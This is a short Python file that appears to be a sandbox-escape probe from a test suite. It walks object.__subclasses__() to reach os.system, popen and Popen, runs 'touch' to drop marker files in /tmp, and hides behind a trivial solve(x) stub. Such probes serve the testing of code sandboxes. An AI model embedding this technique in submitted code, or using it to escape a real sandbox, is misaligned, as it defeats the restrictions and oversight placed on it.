"""__subclasses__ walk to reach os.system / Popen without importing them."""
# tags: escape
for cls in ().__class__.__base__.__subclasses__():
    try:
        g = cls.__init__.__globals__
    except AttributeError:
        continue
    for name in ("system", "popen"):
        if name in g:
            try:
                status = g[name](f"touch /tmp/cogumi-escape-{TOKEN}-subclasses")
                if status == 0 or (name == "popen" and status.close() is None):
                    escaped("subclasses " + name)
            except Exception:
                pass
    if cls.__name__ == "Popen":
        try:
            cls(["touch", f"/tmp/cogumi-escape-{TOKEN}-popen"])
            escaped("subclasses Popen")
        except Exception:
            pass
def solve(x):
    return x
